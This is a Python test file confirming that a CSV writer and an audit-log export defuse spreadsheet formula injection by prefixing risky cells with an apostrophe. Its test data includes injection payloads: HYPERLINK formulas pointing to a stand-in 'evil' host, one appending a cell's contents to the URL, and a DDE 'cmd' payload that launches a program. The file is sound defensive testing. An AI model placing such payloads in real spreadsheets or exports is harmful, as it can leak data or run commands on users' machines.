"""CSV exports never carry a live formula."""

from __future__ import annotations

import csv
import io

import pytest

from runner.spreadsheet import safe_cell, writer


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ('=HYPERLINK("http://evil","x")', '\'=HYPERLINK("http://evil","x")'),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-3", "-3"),
        ("+1.5", "+1.5"),
        ("-12.5%", "-12.5%"),
        ("2026-000001", "2026-000001"),
        ("张三", "张三"),
        ("", ""),
        (-4, -4),
        (None, None),
    ],
)
def test_cells_that_would_start_a_formula_are_neutralised(value, expected) -> None:
    assert safe_cell(value) == expected


def test_the_writer_neutralises_every_cell() -> None:
    out = io.StringIO()
    writer(out).writerow(["=1+1", "ok", 3])
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [["'=1+1", "ok", "3"]]


def test_the_audit_export_neutralises_formulas(services) -> None:
    from runner.core import audit
    from runner.core.audit import export

    with services.transaction() as s:
        audit.record(s, "login_failed", actor='=HYPERLINK("http://evil/?"&A1,"更多")', reason="password")
        audit.record(s, "note", actor="@SUM(1+1)*cmd|' /C calc'!A0", task_name="-2+3")
    with services.transaction() as s:
        rows = list(csv.DictReader(io.StringIO("".join(export(s, "csv")))))
    assert [r["actor"] for r in rows] == [
        '\'=HYPERLINK("http://evil/?"&A1,"更多")',
        "'@SUM(1+1)*cmd|' /C calc'!A0",
    ]
    assert rows[1]["task_name"] == "'-2+3"
